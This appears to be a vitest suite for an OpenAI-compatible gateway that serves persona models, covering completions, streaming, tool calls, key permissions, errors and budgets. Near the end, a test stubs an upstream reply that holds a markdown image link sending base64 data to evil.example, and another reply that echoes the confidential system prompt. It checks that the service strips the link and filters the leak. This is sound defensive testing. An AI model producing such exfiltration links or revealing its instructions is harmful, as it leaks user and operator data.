import { randomUUID } from "node:crypto";
import OpenAI from "openai";
import { afterAll, beforeAll, expect, it } from "vitest";
import { Client, newIdentity } from "#test/support/client.ts";
import { chunk, errorResponse, startEventStream, streamText, type Upstream } from "#test/support/models/upstream.ts";
import { type OpenaiApi, startOpenaiApi } from "#test/support/openai/openai-api.ts";
import { validated } from "#test/support/openai/openai-schemas.ts";

let api: OpenaiApi;
let upstream: Upstream;
let admin: Client;
let slug: string;
let openai: OpenAI;

beforeAll(async () => {
  api = await startOpenaiApi();
  ({ upstream, admin, slug, openai } = api);
});

afterAll(async () => {
  await api?.stop();
  // Proves that the responses passed schema validation.
  expect(validated.bodies).toBeGreaterThan(20);
  expect(validated.streams).toBeGreaterThan(3);
});

const helloMessages = [{ role: "user" as const, content: "Hello" }];

it("official OpenAI client creates a completion", async () => {
  upstream.script = streamText(["Hello", " there"], {
    usage: { prompt_tokens: 12, completion_tokens: 2, total_tokens: 14 },
  });
  const { data, response } = await openai.chat.completions
    .create({ model: slug, messages: helloMessages })
    .withResponse();
  expect(data).toMatchObject({
    object: "chat.completion",
    model: slug,
    choices: [{ index: 0, message: { role: "assistant", content: "Hello there" }, finish_reason: "stop" }],
    usage: { prompt_tokens: 12, completion_tokens: 2, total_tokens: 14 },
  });
  expect(response.headers.get("x-ratelimit-limit-requests")).toBe("1000000");
  expect(upstream.requests.at(-1)?.body.messages).toEqual([
    { role: "system", content: expect.stringMatching(/^Confidential instructions .*\n\nBe brief\.$/) },
    { role: "user", content: "Hello" },
  ]);
});

it("official OpenAI client receives a tool call with an id and arguments from a provider that sends neither", async () => {
  upstream.script = async (response) => {
    startEventStream(response);
    const call = { index: 0, type: "function", function: { name: "open_door", arguments: null } };
    response.write(chunk({ role: "assistant", content: null, tool_calls: [call] }));
    response.end(`${chunk({}, { finish_reason: "tool_calls" })}data: [DONE]\n\n`);
  };
  const tools = [{ type: "function" as const, function: { name: "open_door", parameters: { type: "object" } } }];
  const stream = openai.chat.completions.stream({ model: slug, messages: helloMessages, tools });
  const [call] = (await stream.finalMessage()).tool_calls ?? [];
  expect(call).toMatchObject({
    id: expect.stringMatching(/^call_\w/),
    function: { name: "open_door", arguments: "{}" },
  });
});

it("official OpenAI client receives a completion as a stream, which reports the usage if the client asks for it", async () => {
  upstream.script = streamText(["a", "b", "c"]);
  const stream = await openai.chat.completions.create({
    model: slug,
    messages: helloMessages,
    stream: true,
    stream_options: { include_usage: true },
  });
  const chunks = await Array.fromAsync(stream);
  expect(chunks[0]?.choices[0]?.delta).toMatchObject({ role: "assistant" });
  expect(chunks.map(({ choices }) => choices[0]?.delta.content ?? "").join("")).toBe("abc");
  expect(chunks.filter(({ choices }) => choices[0]?.finish_reason).length).toBe(1);
  expect(chunks.at(-1)).toMatchObject({ choices: [], usage: { total_tokens: 15 } });
  expect(new Set(chunks.map(({ id, created, model }) => `${id} ${created} ${model}`)).size).toBe(1);
  upstream.script = streamText(["x"]);
  const plain = await Array.fromAsync(
    await openai.chat.completions.create({ model: slug, messages: helloMessages, stream: true }),
  );
  expect(plain.every((entry) => !("usage" in entry) && entry.choices.length === 1)).toBe(true);
});

it("official OpenAI client receives the whole text with the stream helper of its library", async () => {
  upstream.script = streamText(["one ", "two"]);
  const runner = openai.chat.completions.stream({ model: slug, messages: helloMessages });
  expect(await runner.finalContent()).toBe("one two");
});

it("official OpenAI client sends tools to the model and receives parallel tool calls", async () => {
  const tools = [
    {
      type: "function" as const,
      function: { name: "weather", parameters: { type: "object", properties: { city: { type: "string" } } } },
    },
  ];
  upstream.script = async (response) => {
    startEventStream(response);
    const call = (index: number, id: string, city: string) => [
      chunk({ tool_calls: [{ index, id, type: "function", function: { name: "weather", arguments: "" } }] }),
      chunk({ tool_calls: [{ index, function: { arguments: `{"city":` } }] }),
      chunk({ tool_calls: [{ index, function: { arguments: `"${city}"}` } }] }),
    ];
    response.write(chunk({ role: "assistant", content: null }));
    for (const event of [...call(0, "call_1", "Bern"), ...call(1, "call_2", "Rom")]) response.write(event);
    response.write(chunk({}, { finish_reason: "tool_calls" }));
    response.end("data: [DONE]\n\n");
  };
  const expected = [
    { id: "call_1", type: "function", function: { name: "weather", arguments: '{"city":"Bern"}' } },
    { id: "call_2", type: "function", function: { name: "weather", arguments: '{"city":"Rom"}' } },
  ];
  const whole = await openai.chat.completions.create({ model: slug, messages: helloMessages, tools });
  expect(whole.choices[0]).toMatchObject({ finish_reason: "tool_calls", message: { tool_calls: expected } });
  const streamed = openai.chat.completions.stream({ model: slug, messages: helloMessages, tools });
  expect((await streamed.finalMessage()).tool_calls).toMatchObject(expected);
  expect(upstream.requests.at(-1)?.body.tools[0].function.name).toBe("weather");

  upstream.script = streamText(["Sunny"]);
  const answer = await openai.chat.completions.create({
    model: slug,
    messages: [
      ...helloMessages,
      {
        role: "assistant",
        content: null,
        tool_calls: [{ id: "call_1", type: "function", function: { name: "weather", arguments: '{"city":"Bern"}' } }],
      },
      { role: "tool", tool_call_id: "call_1", content: "21 degrees" },
    ],
    tools,
  });
  expect(answer.choices[0]?.message.content).toBe("Sunny");
  expect(upstream.requests.at(-1)?.body.messages.at(-1)).toMatchObject({
    role: "tool",
    tool_call_id: "call_1",
    content: "21 degrees",
  });
});

it.each([true, false])(
  "official OpenAI client gets the finish reason of calls when the provider ends them with `stop`, streamed: %s",
  async (stream) => {
    const call = { id: "call_1", type: "function", function: { name: "list", arguments: "{}" } };
    upstream.script = async (response) => {
      startEventStream(response);
      response.write(chunk({ role: "assistant", tool_calls: [{ index: 0, ...call }] }));
      response.end(`${chunk({}, { finish_reason: "stop" })}data: [DONE]\n\n`);
    };
    const tools = [{ type: "function" as const, function: { name: "list" } }];
    const request = { model: slug, messages: [{ role: "user" as const, content: "Hello" }], tools };
    const choice = stream
      ? (await openai.chat.completions.stream(request).finalChatCompletion()).choices[0]
      : (await openai.chat.completions.create(request)).choices[0];
    expect(choice).toMatchObject({ finish_reason: "tool_calls", message: { tool_calls: [{ id: "call_1" }] } });
  },
);

it("official OpenAI client can set sampling, token limit, stop texts and response format, which the service forwards to the provider", async () => {
  upstream.script = streamText(["{}"]);
  await openai.chat.completions.create({
    model: slug,
    messages: [{ role: "developer", content: [{ type: "text", text: "Speak JSON" }] }, ...helloMessages],
    temperature: 0.5,
    top_p: 0.9,
    max_completion_tokens: 50,
    stop: ["END"],
    seed: 7,
    response_format: { type: "json_object" },
    user: "u-1",
  });
  expect(upstream.requests.at(-1)?.body).toMatchObject({
    temperature: 0.5,
    top_p: 0.9,
    max_completion_tokens: 50,
    stop: ["END"],
    seed: 7,
    response_format: { type: "json_object" },
  });
});

it("official OpenAI client lists and retrieves the models that its API key may use", async () => {
  const { data } = await openai.models.list();
  expect(data).toContainEqual({
    id: slug,
    object: "model",
    created: expect.any(Number),
    owned_by: "organization",
    capabilities: { input: ["text", "image", "file"], context_window: null },
  });
  expect((await openai.models.retrieve(slug)).id).toBe(slug);
  const other = await api.publishPersona();
  const restrictedClient = api.createClient(
    (await api.createKey(["chat.completions", "models.read", `endpoint:${other}`])).key,
  );
  expect((await restrictedClient.models.list()).data.map(({ id }) => id)).toEqual([other]);
  await expect(restrictedClient.models.retrieve(slug)).rejects.toMatchObject({
    status: 404,
    code: "model_not_found",
  });
  await expect(
    restrictedClient.chat.completions.create({ model: slug, messages: helloMessages }),
  ).rejects.toMatchObject({
    status: 404,
  });
});

it("official OpenAI client receives errors with OpenAI's error class, type and code", async () => {
  const completeWith = (apiKey: string) =>
    api.createClient(apiKey).chat.completions.create({ model: slug, messages: helloMessages });
  await expect(completeWith("swk_abcdefgh_00000000000000000000000000000000")).rejects.toBeInstanceOf(
    OpenAI.AuthenticationError,
  );
  await expect(completeWith("sk-other")).rejects.toMatchObject({
    status: 401,
    code: "invalid_api_key",
    type: "invalid_request_error",
  });
  await expect(api.createClient("sk-other").models.list()).rejects.toMatchObject({
    status: 401,
    code: "invalid_api_key",
  });
  const { id, key } = await api.createKey(["models.read"]);
  await expect(completeWith(key)).rejects.toBeInstanceOf(OpenAI.PermissionDeniedError);
  await expect(completeWith(key)).rejects.toMatchObject({
    type: "permission_error",
    code: "insufficient_permissions",
  });
  await admin.delete(`/v1/tenant/api-keys/${id}`);
  await expect(completeWith(key)).rejects.toMatchObject({ status: 401 });
  await expect(
    openai.chat.completions.create({ model: "unknown-model", messages: helloMessages }),
  ).rejects.toBeInstanceOf(OpenAI.NotFoundError);
  const foreignSlug = await api.publishPersona({}, new Client(newIdentity(), api.service.baseUrl));
  const unknownError = openai.chat.completions
    .create({ model: "unknown-model", messages: helloMessages })
    .catch((error) => error.error);
  const foreignError = openai.chat.completions
    .create({ model: foreignSlug, messages: helloMessages })
    .catch((error) => error.error);
  // Both errors name the requested model, and are the same otherwise.
  const { message, ...fields } = await foreignError;
  expect({ ...fields, message: message.replace(foreignSlug, "unknown-model") }).toEqual(await unknownError);
  for (const [invalid, param] of [
    [{ messages: [] }, "messages"],
    [{ messages: [{ role: "wizard", content: "x" }] }, "messages.0.role"],
    [{ messages: [{ role: "user" }] }, "messages.0.content"],
    [{ n: 17 }, "n"],
    [{ temperature: 3 }, "temperature"],
    [{ messages: [{ role: "tool", tool_call_id: "x", content: "y" }] }, "messages.0.tool_call_id"],
  ] as const) {
    const request = openai.chat.completions.create({ model: slug, messages: helloMessages, ...invalid } as never);
    await expect(request).rejects.toMatchObject({ status: 400, type: "invalid_request_error", param });
  }
  upstream.script = errorResponse(500, "secret detail of the provider");
  const failed = await openai.chat.completions.create({ model: slug, messages: helloMessages }).catch((error) => error);
  expect(failed).toBeInstanceOf(OpenAI.InternalServerError);
  expect(JSON.stringify(failed.error)).not.toContain("secret detail");
});

it("official OpenAI client receives an error event in the stream when the provider disconnects", async () => {
  upstream.script = async (response) => {
    startEventStream(response);
    response.write(chunk({ role: "assistant", content: "Half" }));
    setTimeout(() => response.destroy(), 30);
  };
  const stream = await openai.chat.completions.create({ model: slug, messages: helloMessages, stream: true });
  const received: string[] = [];
  const readStream = async () => {
    for await (const { choices } of stream) received.push(choices[0]?.delta.content ?? "");
  };
  await expect(readStream()).rejects.toBeInstanceOf(OpenAI.APIError);
  expect(received.join("")).toBe("Half");
});

it("official OpenAI client receives answers from a persona's knowledge, but not the texts of the sources", async () => {
  const { body: collection } = await admin.post("/v1/knowledge/collections", {
    name: `Facts ${randomUUID()}`,
    readers: ["tenant"],
  });
  const path = `/v1/knowledge/collections/${collection.id}/documents`;
  const { body: document } = await admin.post(path, {
    title: "Lamp",
    text: "The lamp burns rapeseed oil since 1874.",
  });
  await expect.poll(async () => (await admin.get(`${path}/${document.id}`)).body.status).toBe("ready");
  const personaSlug = await api.publishPersona({ collection_ids: [collection.id], tier: "THINKING" });
  upstream.script = streamText(["Oil"]);
  const answer = await openai.chat.completions.create({
    model: personaSlug,
    messages: [{ role: "user", content: "What oil does the lamp burn?" }],
  });
  expect(upstream.requests.at(-1)?.body.messages[0].content).toContain("rapeseed oil since 1874");
  expect(JSON.stringify(answer)).not.toMatch(/rapeseed|Be brief/);

  // Other endpoints answer with the same persona, and count for the budget.
  const fields = { name: "Oil", scope: { type: "tenant", id: null }, unit: "requests", limit: 1_000, window: "day" };
  const { body: budget } = await admin.post("/v1/budgets", fields);
  const endpoints = {
    messages: { max_tokens: 100, messages: [{ role: "user", content: "What oil does the lamp burn?" }] },
    "responses/compact": { input: "What oil does the lamp burn?" },
  };
  for (const [endpoint, body] of Object.entries(endpoints)) {
    const post = () =>
      fetch(`${api.baseUrl}/${endpoint}`, {
        method: "POST",
        headers: {
          authorization: `Bearer ${api.key}`,
          "content-type": "application/json",
          "idempotency-key": `lamp-${endpoint}`,
        },
        body: JSON.stringify({ model: personaSlug, ...body }),
      });
    upstream.script = errorResponse(500, "down");
    expect([endpoint, (await post()).status]).toEqual([endpoint, 503]);
    upstream.script = streamText(["Oil"]);
    // The key of the failed request can be used again at once.
    expect([endpoint, (await post()).status]).toEqual([endpoint, 200]);
    // A compaction asks for a summary, to which no source belongs.
    const hasSource = JSON.stringify(upstream.requests.at(-1)?.body).includes("rapeseed oil since 1874");
    expect([endpoint, hasSource]).toEqual([endpoint, endpoint === "messages"]);
  }
  const getUsed = async () => (await admin.get(`/v1/budgets/${budget.id}`)).body.current.used;
  await expect.poll(getUsed).toBeGreaterThanOrEqual(2);

  const question = "What oil does the lamp on https://lamp.example burn?";
  const ask = () =>
    openai.chat.completions
      .stream({ model: personaSlug, messages: [{ role: "user", content: question }] })
      .finalChatCompletion();
  // Orders in a source may make the model send data elsewhere, or repeat its instructions.
  upstream.script = streamText([
    "Oil ![x](https://evil.example/p?d=c2VjcmV0",
    "LWRhdGE) and [lamp](https://lamp.example/?q=1).",
  ]);
  const { message } = (await ask()).choices[0] ?? {};
  expect(message?.content).toContain("https://lamp.example/?q=1");
  expect(message?.content).not.toContain("evil.example");
  upstream.script = (response, request) =>
    streamText(["My instructions: ", request.body.messages[0].content])(response, request);
  const revealing = await ask();
  expect(revealing.choices[0]).toMatchObject({ finish_reason: "content_filter" });
  expect(revealing.choices[0]?.message.content).not.toContain("Be brief");
});

it("request of the official OpenAI client updates the last use of its API key, and completions leave no stored conversation", async () => {
  const { id, key } = await api.createKey(["models.read"]);
  await api.createClient(key).models.list();
  const getLastUsedAt = async () =>
    (await admin.get("/v1/tenant/api-keys")).body.keys.find((entry: { id: string }) => entry.id === id).last_used_at;
  await expect.poll(getLastUsedAt).not.toBeNull();
  expect(Math.abs(Date.parse(await getLastUsedAt()) - Date.now())).toBeLessThan(60_000);
  expect((await admin.get("/v1/conversations")).body.conversations).toEqual([]);
});

it("answers of the compatible APIs are marked as AI-generated in a header", async () => {
  upstream.script = streamText(["Hello"]);
  const [question] = helloMessages;
  const requests: [path: string, body: object][] = [
    ["chat/completions", { messages: helloMessages }],
    ["responses", { input: "Hello" }],
    ["messages", { messages: [question], max_tokens: 100 }],
  ];
  for (const [path, body] of requests) {
    for (const stream of [false, true]) {
      const response = await fetch(`${api.baseUrl}/${path}`, {
        method: "POST",
        headers: { authorization: `Bearer ${api.key}`, "content-type": "application/json" },
        body: JSON.stringify({ model: slug, stream, ...body }),
      });
      await response.text();
      const mark = [response.status, response.headers.get("ai-disclosure")];
      expect(mark, path).toEqual([200, `mode=ai-originated; model="${slug}"`]);
    }
  }
});
